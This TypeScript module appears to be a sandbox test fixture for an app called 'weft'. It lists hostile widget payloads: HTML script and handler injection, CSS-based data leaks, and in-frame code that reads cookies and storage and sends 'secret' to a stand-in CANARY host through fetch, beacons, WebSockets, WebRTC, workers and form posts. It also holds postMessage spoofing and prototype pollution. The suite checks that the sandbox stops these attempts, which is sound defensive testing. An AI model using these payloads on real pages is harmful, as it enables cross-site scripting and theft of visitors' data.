/** A widget that means harm. `CANARY` is the address of a server that must hear nothing of it. */
export interface Attack {
  readonly name: string
  readonly html?: string
  readonly css?: string
  /** Runs in the frame as afterRender. */
  readonly code?: string
}

/** Says to whoever runs it that it ran: `hit()` exists in the page, and nowhere else. */
const hit = 'window.hit()'

const elsewhere = (html: string) => html.replaceAll('CANARY', 'CANARY/leak?secret')

const inHtml: readonly Attack[] = [
  { name: 'scripts', html: `<script>${hit}</script><script src="CANARY"></script>` },
  {
    name: 'handlers',
    html: `<img src=x onerror="${hit}"><svg onload="${hit}"></svg><input autofocus onfocus="${hit}">`,
  },
  {
    name: 'addresses that run',
    html: `<a id=press href="javascript:${hit}">x</a><iframe src="javascript:parent.hit()"></iframe>`,
  },
  {
    name: 'addresses that hold documents',
    html: `<iframe src="data:text/html,<script>parent.hit()</script>"></iframe><object data="data:text/html,<script>parent.hit()</script>"></object><a id=press href="data:text/html,x">x</a>`,
  },
  {
    name: 'documents inside',
    html: `<iframe srcdoc="<script>top.hit()</script><img src=CANARY>"></iframe>`,
  },
  {
    name: 'scripts in drawings',
    html: `<svg><script>${hit}</script><a><animate attributeName=href values="javascript:${hit}"/><text>x</text></a><set onbegin="${hit}"/></svg>`,
  },
  {
    name: 'foreign objects',
    html: `<svg><foreignObject><iframe srcdoc="<script>top.hit()</script>"></iframe><img src=x onerror="${hit}"></foreignObject></svg>`,
  },
  {
    name: 'drawings from elsewhere',
    html: '<svg><use href="CANARY#a"/><image href="CANARY"/><rect fill="url(CANARY#a)" width=9 height=9 /></svg>',
  },
  {
    name: 'styles in elements',
    html: '<style>@import "CANARY"; body { display: none }</style><link rel=stylesheet href="CANARY">',
  },
  {
    name: 'images, sounds and films',
    html: '<img src="CANARY"><img srcset="CANARY 1x"><audio src="CANARY" autoplay></audio><video poster="CANARY" src="CANARY"></video><picture><source srcset="CANARY"><img></picture><input type=image src="CANARY">',
  },
  {
    name: 'loading ahead',
    html: '<link rel=prefetch href="CANARY"><link rel=preload as=image href="CANARY"><link rel=modulepreload href="CANARY"><link rel=preconnect href="CANARY"><link rel=dns-prefetch href="CANARY">',
  },
  {
    name: 'speculation',
    html: '<script type=speculationrules>{"prefetch":[{"urls":["CANARY"],"eagerness":"immediate"}]}</script>',
  },
  { name: 'a refresh', html: '<meta http-equiv=refresh content="0;url=/elsewhere">' },
  {
    name: 'a base',
    html: '<base href="CANARY/"><img src="relative"><a id=press href="relative">x</a>',
  },
  {
    name: 'forms',
    html: '<form id=send action="CANARY"><input name=a value=secret><button id=press>x</button></form><button form=send formaction="CANARY">x</button>',
  },
  {
    name: 'names of the application',
    html: '<div id=app>mine</div><div id=weft-page>{}</div><p id=weft-status>mine</p><form name=querySelector></form><img name=getElementById><a id=cookie></a><form id=body></form>',
  },
  {
    name: 'something over everything',
    html: '<div style="position:fixed;inset:0;z-index:2147483647;background:red">over</div><dialog open>over</dialog><div popover id=p>over</div>',
    css: '* { position: fixed !important; inset: 0; z-index: 2147483647; width: 100vw; height: 100vh; background: red }',
  },
  {
    name: 'elements without end',
    html: `${'<b>'.repeat(3000)}deep${'<p>wide</p>'.repeat(20_000)}`,
  },
  { name: 'markup that ends its host', html: '</div></div></body></html><div id=app>mine</div>' },
]

const inCss: readonly Attack[] = [
  { name: 'imports', css: '@import "CANARY"; @import url(CANARY);' },
  {
    name: 'values told through selectors',
    html: '<input id=i value="s">',
    css: 'input[value^="s"] { background: url(CANARY) } #outside { background: url(CANARY) }',
  },
  { name: 'fonts', css: '@font-face { font-family: f; src: url(CANARY) } p { font-family: f }' },
  {
    name: 'images',
    css: 'p { background: url(CANARY); list-style: url(CANARY); cursor: url(CANARY), auto; border-image: url(CANARY); mask: url(CANARY); content: url(CANARY); --u: url(CANARY); filter: url(CANARY#f) }',
  },
  {
    name: 'rules for the page',
    css: '} #outside, body, html { color: rgb(255, 0, 0) !important; display: none !important } :root { --x: 1 }',
  },
  {
    name: 'spelling in disguise',
    css: 'p { background: u\\72l(CANARY); --x: u\\72l(CANARY); mask: var(--x) }',
  },
]

/** What it could see it gives away, through the only way out that there is. */
const tell = (expression: string) =>
  `{ let seen; try { seen = String(await (${expression})) } catch (e) { seen = 'refused' }; this.notify(seen) }\n`

const inCode: readonly Attack[] = [
  {
    name: 'reads the page',
    code:
      tell('parent.document.body.innerHTML') +
      tell('top.document.title') +
      tell('frameElement.outerHTML') +
      tell('parent.hit()') +
      tell('parent.weft'),
  },
  {
    name: 'reads cookies',
    code: `${tell('document.cookie')}try { document.cookie = 'mine=1' } catch {}`,
  },
  {
    name: 'reads storage',
    code: [
      'localStorage.getItem("token")',
      'sessionStorage.length',
      'indexedDB.databases().then(JSON.stringify)',
      'caches.keys()',
      'navigator.storage.getDirectory()',
      'cookieStore.getAll()',
    ]
      .map(tell)
      .join('\n'),
  },
  {
    name: 'talks to others',
    code: `
      const tries = [
        () => fetch('CANARY'), () => fetch('/api/v1/pages?slug=/'), () => navigator.sendBeacon('CANARY', 'secret'),
        () => new WebSocket('CANARY'.replace('http', 'ws')), () => new EventSource('CANARY'), () => new WebTransport('CANARY'.replace('http:', 'https:')),
        () => { const x = new XMLHttpRequest(); x.open('POST', 'CANARY'); x.send('secret') },
        () => { new Image().src = 'CANARY' }, () => import('CANARY'), () => new Worker('CANARY'),
        () => new Worker(URL.createObjectURL(new Blob(['fetch("CANARY")']))), () => new SharedWorker('CANARY'),
        () => navigator.serviceWorker.register('CANARY'), () => new Audio('CANARY').play(),
        () => new FontFace('f', 'url(CANARY)').load(), () => document.fonts.load('1px f'),
        () => { const a = document.createElement('a'); a.href = '#'; a.ping = 'CANARY'; document.body.append(a); a.click() },
        () => { const s = document.createElement('script'); s.src = 'CANARY'; document.body.append(s) },
        () => { for (const rel of ['prefetch', 'preload', 'modulepreload', 'stylesheet', 'icon', 'manifest', 'preconnect', 'dns-prefetch', 'prerender']) { const l = document.createElement('link'); l.rel = rel; l.as = 'image'; l.href = 'CANARY'; document.head.append(l) } },
        () => { const s = document.createElement('script'); s.type = 'speculationrules'; s.text = '{"prefetch":[{"urls":["CANARY"],"eagerness":"immediate"}]}'; document.body.append(s) },
        () => { document.body.style.background = 'url(CANARY)' },
      ]
      for (const one of tries) try { Promise.resolve(one()).catch(() => {}) } catch {}`,
  },
  {
    name: 'talks past the network',
    code: `
      const frame = document.createElement('iframe'); frame.srcdoc = '<img src=x onerror="new RTCPeerConnection()">'; document.body.append(frame)
      const makers = [() => RTCPeerConnection, () => webkitRTCPeerConnection, () => frame.contentWindow.RTCPeerConnection, () => Reflect.getOwnPropertyDescriptor(Window.prototype, 'RTCPeerConnection').value]
      for (const make of makers) try { const p = new (make())({ iceServers: [{ urls: 'stun:UDP' }] }); p.createDataChannel('x'); p.setLocalDescription(await p.createOffer()); this.notify('connected') } catch {}`,
  },
  {
    name: 'speaks as somebody else',
    code: `
      for (let i = 0; i < 9; i++) for (const w of [parent, top]) w.postMessage({ kind: 'start', token: 'mine', weft: 'port' }, '*')
      parent.postMessage('weft-port', '*', [new MessageChannel().port1])
      for (const name of ['constructor', '__proto__', 'toString', 'setToken', 'create', 'fetch', 'close']) try { await tsccs[name]('x') } catch {}`,
  },
  {
    name: 'opens windows',
    code:
      tell('window.open("CANARY")') +
      tell('window.open("", "x")') +
      `const a = document.createElement('a'); a.target = '_blank'; a.href = 'CANARY'; document.body.append(a); a.click(); try { alert(1); confirm(1); prompt(1); print() } catch {}`,
  },
  {
    name: 'sends the page elsewhere',
    code:
      tell('top.location = "CANARY"') +
      tell('parent.location.replace("CANARY")') +
      `const a = document.createElement('a'); a.target = '_top'; a.href = 'CANARY'; document.body.append(a); a.click(); history.back()`,
  },
  { name: 'sends itself elsewhere', code: `location.href = 'CANARY'` },
  {
    name: 'posts itself elsewhere',
    code: `const f = document.createElement('form'); f.action = 'CANARY'; f.method = 'post'; document.body.append(f); f.submit()`,
  },
  {
    name: 'refreshes itself',
    code: `document.head.innerHTML = '<meta http-equiv=refresh content="0;CANARY">'`,
  },
  {
    name: 'pollutes prototypes',
    code: `
      Object.prototype.polluted = 1
      this.notify(JSON.parse('{"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}'))
      try { await tsccs.query(JSON.parse('{"__proto__": {"polluted": 1}, "type": "__proto__"}')) } catch {}
      try { await tsccs.find('__proto__', 'constructor') } catch {}`,
  },
  {
    name: 'takes the screen',
    code:
      tell('document.documentElement.requestFullscreen().then(() => "full")') +
      `document.body.requestPointerLock?.(); document.documentElement.style.cssText = 'position:fixed;inset:0;z-index:2147483647'`,
  },
  {
    name: 'asks for the visitor',
    code: [
      'navigator.geolocation.getCurrentPosition(() => {}) ?? "asked"',
      'navigator.mediaDevices.getUserMedia({ video: true })',
      'navigator.clipboard.readText()',
      'Notification.requestPermission()',
      'navigator.credentials.get({ password: true })',
    ]
      .map(tell)
      .join('\n'),
  },
  {
    name: 'takes away what it runs on',
    code: `JSON.stringify = () => '{"kind":"height","height":1e9}'; Map.prototype.get = () => ({ resolve() {} }); document.body.remove(); MessagePort.prototype.postMessage = () => {}`,
  },
  {
    name: 'makes elements without end',
    code: `for (let i = 0; i < 200_000; i++) document.body.append(document.createElement('b'))`,
  },
]

/** Every attack, with where it wants to reach. */
export const attacks = (canary: string, udp: string): readonly Attack[] =>
  [...inHtml, ...inCss, ...inCode].map((attack) => {
    const aimed = elsewhere(JSON.stringify(attack))
    return JSON.parse(aimed.replaceAll('CANARY', canary).replaceAll('UDP', udp)) as Attack
  })
